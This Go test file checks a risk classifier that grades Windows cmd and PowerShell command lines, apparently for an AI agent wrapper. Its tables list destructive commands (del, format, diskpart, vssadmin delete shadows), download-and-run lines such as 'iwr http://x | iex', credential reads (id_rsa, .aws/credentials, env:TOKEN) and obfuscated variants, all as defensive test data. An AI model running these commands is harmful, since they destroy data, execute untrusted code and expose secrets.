package risk

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/agent-wrapper/agent-wrapper/internal/shell"
)

var windowsTables = map[string][]rated{"windowsPrograms": windowsPrograms(), "cmdBuiltins": cmdBuiltins(), "cmdlets": cmdlets()}

func TestWindowsClasses(t *testing.T) {
	for _, tt := range []struct {
		sh    WindowsShell
		class Class
		lines []string
	}{
		{Cmd, Forbidden, []string{
			`del x`, `DEL x`, `erase x`, `del/f/q x`, `@del x`, `"del" x`, `rd /s x`, `rmdir x /S /Q`, `rd /s/q x`, `format d:`, `FORMAT.COM d:`,
			`C:\Windows\System32\format.com d: /q`, `diskpart`, `diskpart.exe /s f`, `bootrec /fixmbr`, `cipher /w:c:\`, `cipher /W:c`, `wevtutil cl System`,
			`wevtutil.exe clear-log System`, `vssadmin delete shadows /all`, `shutdown /s /t 0`, `shutdown -r`, `sdelete x`, `dir & del x`, `dir && del x`,
			`dir | format d:`, "dir\ndel x", "dir\r\ndel x", `cmd /c del x`, `cmd /c "del x"`, `cmd /c "dir & del x"`, `call del x`, `start del x`,
			`if exist x del x`, `if exist x (del x)`, `for %i in (*) do del %i`, `for %i in (*) do (del %i)`, `d^el x`, `(del x)`, `powershell -Command "rm x"`,
			`powershell -c Remove-Item x`, `pwsh -Command "ls; rm x"`, `echo x > \\.\PhysicalDrive0`, `type x >\\.\C:`, `sudo del x`, `runas /user:a "del x"`,
			`forfiles /c "cmd /c del @file"`, `remove-item x`, `stop-process -name x`, `cmd /c cmd /c "cmd /c del x"`, `schtasks /create /tr "del x"`,
			`del"x"`, `;del x`, `=del x`, `bcdedit /set x y`, `mkfs.ext4 /dev/sda1`, `dd if=/dev/zero of=/dev/sda`, `cmd /c start cmd /c "del x"`,
			"echo \"a\ndel x", `logoff`, `wbadmin delete catalog`, `%COMSPEC% /c del x`, `echo %X%;del`, `rd%TMP% x & del`,
		}},
		{Cmd, High, []string{
			`sc stop x`, `sc delete x`, `net stop x`, `net user x /add`, `reg delete HKLM\x`, `takeown /f x`, `robocopy a b /MIR`, `netsh interface set x`, `netsh`,
			`msiexec /i x`, `winget install x`, `icacls x /grant y:F`, `schtasks /delete /tn x`, `sfc /scannow`, `runas /user:x y`, `type x > C:\Windows\y`,
			`echo x > "C:\Program Files\y"`, `wmic process x delete`, `wmic process call create x`, `powershell -EncodedCommand AAAA`, `pwsh -e AAAA`, `powershell /ec AAAA`, `rm x`,
			`curl http://x | cmd`, `certutil -urlcache -f http://x y & cmd /c y`, `manage-bde -off c:`,
		}},
		{Cmd, Moderate, []string{
			`copy a b`, `move a b`, `ren a b`, `md x`, `rd x`, `attrib +r x`, `attrib -r x`, `attrib -s x`, `nosuch`, `C:\tmp\whoami.exe`, `.\findstr x y`, `dir > x`, `dir %TMP%`, `dir "%TMP%"`, `dir !x!`, `dir "!x!"`,
			`dir (x)`, `echo ^x`, `curl http://x`, `wget x`, `ssh h`, `sort /o x y`, `sort x /output y`, `sort x /out y`, `ipconfig /release`, `ipconfig /rel`, `setx a b`, `reg add x`,
			`taskkill /f /im x`, `set a=b`, `set /a x`, `set /p x`, `date 1-1-2020`, `path c:\x`, `shutdown /a`, `cmd`, `powershell`, `get-process`, `ls`, `cat x`,
			`start notepad`, `timeout 5`, `ping -t x`, `git push`, `kubectl delete pod x`, `type \\.\pipe\x`, `type \\host\share\x`, `dir \\host\c$`, `net config server /autodisconnect:1`, `gpresult /h x`,
			"dir\x01", "echo “x”", `dir >`, `schtasks`, `if x y`, `git log %x%`,
		}},
		{Cmd, Safe, []string{
			``, `   `, `dir`, `DIR /S`, `dir/s`, `cd..`, `cd \`, `echo.`, `echo x`, `type x`, `findstr /i x y | sort`, `ipconfig /all`, `whoami`, `C:\Windows\System32\whoami.exe /all`,
			`dir > nul`, `dir >nul 2>&1`, `dir 2>NUL`, `more < x`, `wevtutil qe System`, `reg query HKLM\x`, `sc query`, `net view`, `schtasks /query`, `set`, `set x`,
			`date /t`, `git status`, `kubectl get pods`, `tasklist /v & netstat -an`, `icacls x`, `netsh interface ip show`, `netsh wlan show x`, `echo "a & del b"`, `rem del x`,
			`vssadmin list shadows`, `tzutil /l`, `arp -a`, `title x`,
		}},
		{PowerShell, Forbidden, []string{
			`Remove-Item -Recurse x`, `remove-item x -rec -fo`, `ri x`, `rm x`, `RM -r x`, `del x`, `erase x`, `rd x`, `rmdir x`, `Stop-Computer`, `restart-computer -Force`, `Clear-RecycleBin`,
			`ls; rm x`, `ls | rm`, "ls\nrm x", `ls && rm x`, `ls & rm x`, `& rm x`, `& 'Remove-Item' x`, `. rm x`, `Microsoft.PowerShell.Management\Remove-Item x`, "r`m x", `ls | % { rm $_ }`,
			`ls | ForEach-Object { Remove-Item $_ }`, `if ($x) { rm y }`, `$x = rm y`, `(rm x)`, `echo $(rm x)`, `@(rm x)`, `iex "rm x"`, `Invoke-Expression "ls; rm x"`, `Invoke-Command { rm x }`,
			`Start-Process rm x`, `cmd /c del x`, `cmd /c "rd /s x"`, `powershell -c "rm x"`, `format d:`, `format.com d:`, `Format-Volume -DriveLetter D`, `Clear-Disk 1`, `diskpart`, `wevtutil cl System`,
			`Clear-EventLog System`, `Stop-Process -Name x`, `kill 1`, `spps 1`, `Stop-Service x`, `shutdown /r`, `cipher /w:c`, `"x" > \\.\PhysicalDrive0`, `Clear-Host`, `cls`, `“x”; rm y`, `ls #x
rm y`, "echo 'a\nb'; rm y", "echo 'unfinished\nrm y", "ls `\n; rm y", `sudo rm x`, `[x]::y(); rm z`, `sdelete.exe x`, `del.exe x`, `$null = rm x`, `$null = ls; rm x`, `return rm x`, `exit (rm x)`, `throw rm x`, `start cmd "/c del x"`,
		}},
		{PowerShell, High, []string{
			`Set-ExecutionPolicy Unrestricted`, `Install-Module x`, `iwr http://x | iex`, `irm http://x | iex`, `curl http://x | powershell -`, `New-LocalUser x`, `New-Service x`, `net user x /add`, `sc.exe stop x`,
			`powershell -enc AAAA`, `Set-Acl x`, `"x" > C:\Windows\x`,
		}},
		{PowerShell, Moderate, []string{
			`Get-Nosuch`, `nosuch`, `./x.ps1`, `. ./x.ps1`, `New-Item x`, `md x`, `Set-Content x y`, `ls > x`, `ls $x`, `ls "$x"`, "ls \"a`tb\"", "ls \"`n\"", `ls | ? { $_.x }`, `Get-Process | % Name`, `Invoke-WebRequest http://x`, `iwr http://x`,
			`Get-Process @x`, `ls \\host\share`, `gc //host/share/x`, `$null`, `exit`, `[x]::y()`, `Copy-Item a b`, `Start-Sleep 5`, `sl $home`, `ls --% x`, `ls < x`, `Get-Help x -Online`, `help x -on`, `git commit -m x`, `sc x y`, `iex x`, `ver`, `ls # x`, `gc 'x`, `.`, `,x`, `ps 2>`,
			`Start-Process notepad`, `.\Get-Process x`, `gc \\.\pipe\x`, `Invoke-Command x`, `foo$x`,
		}},
		{PowerShell, Safe, []string{
			``, `Get-Process`, `GET-PROCESS -Name x`, `ps | sort CPU | select -First 5`, `gci -Recurse`, `ls -r x`, `dir`, `cat x`, `gc 'a;rm b'`, `gc "a | rm b"`, `echo 'it''s'`, `Get-Service | Where-Object Status -eq Running`,
			`Get-Process | Format-Table`, `ls a#b`, `Microsoft.PowerShell.Management\Get-ChildItem x`, `ls > $null`, `ls 2>$null`, `ls *> $null`, `kubectl get pods`, `git status`, `docker ps`, `cd x; pwd`, `Test-Path x`, `whoami /all`, `hostname`, `Get-Help x`,
			`ls 2>&1`, `ipconfig`, `Select-String x y`, `ls [a-c]*`, `gc a,b`,
		}},
	} {
		for _, line := range tt.lines {
			if got := Windows(line, tt.sh); got.Class != tt.class || got.Tier != tt.class.Tier() {
				t.Errorf("shell %d, %q: %+v, want %v", tt.sh, line, got, tt.class)
			}
		}
	}
}

func TestWindowsReports(t *testing.T) {
	for line, want := range map[string]Report{
		"kubectl get pods | findstr x": {Safe, 1, []string{"read-only"}, []string{}, []Component{
			{"kubectl", "get", []string{"pods"}, Safe, "read-only"},
			{"findstr", "", []string{"x"}, Safe, "read-only"},
		}},
		"Reg Query HKLM > out.txt": {Moderate, 2, []string{"mutating operation: writes out.txt"}, []string{}, []Component{
			{"Reg", "Query", []string{"HKLM"}, Safe, "read-only"},
		}},
		"schtasks /query": {Safe, 1, []string{"read-only"}, []string{}, []Component{
			{"schtasks", "", []string{"/query"}, Safe, "read-only"},
		}},
		"type %USERPROFILE%": {Moderate, 2, []string{"a variable"}, []string{FactorDynamic}, []Component{
			{"type", "", []string{"%USERPROFILE%"}, Safe, "read-only"},
		}},
		`type C:\Users\x\.ssh\id_rsa`: {Safe, 1, []string{"read-only"}, []string{FactorSensitive}, []Component{
			{"type", "", []string{`C:\Users\x\.ssh\id_rsa`}, Safe, "read-only"},
		}},
		"": {Safe, 1, []string{nothing}, []string{}, []Component{}},
		"reg /x query y": {Safe, 1, []string{"read-only"}, []string{}, []Component{
			{"reg", "", []string{"/x", "query", "y"}, Safe, "read-only"},
		}},
		"git -C x status": {Safe, 1, []string{"read-only"}, []string{}, []Component{
			{"git", "", []string{"-C", "x", "status"}, Safe, "read-only"},
		}},
	} {
		if diff := cmp.Diff(want, Windows(line, Cmd)); diff != "" {
			t.Errorf("%q (-want +got):\n%s", line, diff)
		}
	}
}

func TestWindowsFactors(t *testing.T) {
	for line, want := range map[string]string{
		"ls $x": FactorDynamic, "ls (gc x)": FactorSubstitution, "nosuch": FactorUnknown, "iwr x | iex": FactorInterpreter, "ls > \\\\.\\PhysicalDrive1": FactorDevice,
		"x > C:\\Windows\\x": FactorSystem, "gc ~/.aws/credentials": FactorSensitive, strings.Repeat("x", shell.MaxLine+1): FactorDynamic,
		"'x' > x/.ssh/y": FactorSensitive,
		"gci env:":       FactorSensitive, "Get-ChildItem Env:\\": FactorSensitive, "dir env:": FactorSensitive, "gi 'env:TOKEN'": FactorSensitive, "cat env:TOKEN": FactorSensitive,
		"ls -Path env:": FactorSensitive, "ls -Path:env:": FactorSensitive, `gci Microsoft.PowerShell.Core\Environment::`: FactorSensitive, "cd env:; ls": FactorSensitive, "printenv": FactorSensitive,
	} {
		if got := Windows(line, PowerShell); !slices.Contains(got.Factors, want) || got.Tier < 2 && want != FactorSensitive {
			t.Errorf("%.40q: %+v, want factor %s", line, got, want)
		}
	}
}

// TestWindowsVariables: set shows variables only in cmd, and only if it sets
// none.
func TestWindowsVariables(t *testing.T) {
	for line, want := range map[string]bool{"set": true, "set P": true, "SET | findstr X": true, "@set": true, "set X=1": false, "set /a x=1": false, "dir env:": false, "echo set": false} {
		if got := slices.Contains(Windows(line, Cmd).Factors, FactorSensitive); got != want {
			t.Errorf("%q: %v, want %v", line, got, want)
		}
	}
	for _, line := range []string{"ls env", "ls x:env:", "$x = 1", "set-item env:X 1", "echo $null"} {
		if slices.Contains(Windows(line, PowerShell).Factors, FactorSensitive) {
			t.Errorf("%q shows variables", line)
		}
	}
}

// Commands in blocks or parentheses are components too.
func TestWindowsBlocksAreSeen(t *testing.T) {
	for line, sh := range map[string]WindowsShell{
		"if ($x) { copy-item a b }": PowerShell, "ls | % {copy-item a b}": PowerShell, "(copy-item a b)": PowerShell, "copy-it`em a b": PowerShell, "if exist x (copy-item a b)": Cmd,
		`cmd /c "dir & copy-item a b"`: Cmd,
	} {
		got := Windows(line, sh)
		if !slices.ContainsFunc(got.Components, func(c Component) bool { return c.Command == "copy-item" && slices.Equal(c.Args, []string{"a", "b"}) }) {
			t.Errorf("%q: %+v", line, got.Components)
		}
	}
}

// A line may become too long by quoting it for another shell.
func TestWindowsLongLines(t *testing.T) {
	line := "nosuch" + strings.Repeat(" a", 30000)
	got := Windows(line, Cmd)
	if got.Class != Moderate || got.Components[0].Reason != "unknown command: nosuch" {
		t.Errorf("%v %q", got.Class, got.Reasons)
	}
	if got := Windows(`"" x`, PowerShell); got.Class != Moderate {
		t.Errorf("a program without a name: %+v", got)
	}
}

// Without a shell these names are unknown.
func TestWindowsNamesAreKnownThereOnly(t *testing.T) {
	for _, line := range []string{"del x", "format d:", "Remove-Item x", "Get-Process", "systeminfo", "wevtutil cl System"} {
		if got := Facts(analyze(line), Default); got.Class != Moderate {
			t.Errorf("%q: %+v, want moderate", line, got)
		}
	}
}

// Nested lines are read only to a limit, beyond which nothing is proven.
func TestWindowsNesting(t *testing.T) {
	line := `dir`
	for range 12 {
		line = `cmd /c ` + line
	}
	if got := Windows(line, Cmd); got.Class != Moderate {
		t.Errorf("%+v", got)
	}
	w := windowsLine{shell: Cmd}
	w.readLine(`cmd /c "cmd /c x"`, maxNested)
	if got := newReport(w.found); got.Class < Moderate || !slices.Contains(got.Factors, FactorDynamic) {
		t.Errorf("at the limit: %+v", got)
	}
}

func TestWindowsTables(t *testing.T) {
	for name, table := range windowsTables {
		checkTable(t, name, table)
	}
	seen := map[string]string{}
	for _, own := range []string{"cmdBuiltins", "cmdlets"} {
		for _, p := range windowsTables[own] {
			seen[p.name] = own
		}
	}
	for _, p := range windowsPrograms() {
		if own := seen[p.name]; own != "" {
			t.Errorf("%s is in windowsPrograms and in %s", p.name, own)
		}
	}
	for i, a := range aliases {
		if i > 0 && aliases[i-1].name >= a.name {
			t.Errorf("aliases: %q does not stand before %q", aliases[i-1].name, a.name)
		}
		if ofCmdlets().find(a.cmdlet) == nil {
			t.Errorf("alias %s is for %s, which no table has", a.name, a.cmdlet)
		}
		if ofCmdlets().find(a.name) != nil {
			t.Errorf("alias %s is a cmdlet as well", a.name)
		}
	}
}

// Each row of the Windows tables is returned for some command.
func TestEveryWindowsRowIsReached(t *testing.T) {
	for name, table := range windowsTables {
		for _, p := range table {
			plan := newPlan(p.rows)
			for i := range p.rows {
				for _, path := range paths(&p.rows[i]) {
					words := spelledOut(example(p, path, p.rows[i].With))
					got, _ := windowsRow(plan, words)
					if got.Class != p.rows[i].Class || got.Reason != string(p.rows[i].Cause) {
						t.Errorf("%s: %q is %+v, want %+v", name, words, got, p.rows[i])
					}
				}
			}
		}
	}
}

func spelledOut(words []shell.Word) []string {
	var out []string
	for i := range words {
		out = append(out, words[i].Text)
	}
	return out
}

func TestWindowsRules(t *testing.T) {
	for sh, own := range map[WindowsShell]string{Cmd: "cmdBuiltins", PowerShell: "cmdlets"} {
		lines := map[string]bool{}
		for _, r := range WindowsRules(sh) {
			lines[r.Program] = true
			if r.Kind != "command" || r.Reason == "" || r.Tier != r.Risk.Tier() {
				t.Errorf("%+v", r)
			}
		}
		for _, p := range slices.Concat(windowsPrograms(), windowsTables[own]) {
			if !lines[p.name] {
				t.Errorf("shell %d: no rule for %s", sh, p.name)
			}
		}
		if lines["rm"] != (sh == PowerShell) {
			t.Errorf("shell %d: rm is an alias of PowerShell only", sh)
		}
	}
}

func FuzzWindows(f *testing.F) {
	for _, line := range []string{"dir & del x", "r`m x", "ls | % { rm $_ }", `cmd /c "a 'b`, "a >", "\"\n'", "^", "`", "@x", "$null", "x > \\\\.\\y", "(", "if x (y) else z"} {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, line string) {
		for _, sh := range []WindowsShell{0, Cmd, PowerShell} {
			got := Windows(line, sh)
			if got.Class < Safe || got.Class > Forbidden || got.Tier != got.Class.Tier() || len(got.Reasons) == 0 {
				t.Fatalf("%q: %+v", line, got)
			}
			// What follows an operator is always seen.
			if behind := Windows(line+"\nformat x\n", sh); behind.Class < Forbidden {
				t.Fatalf("%q and a format: %+v", line, behind)
			}
		}
	})
}
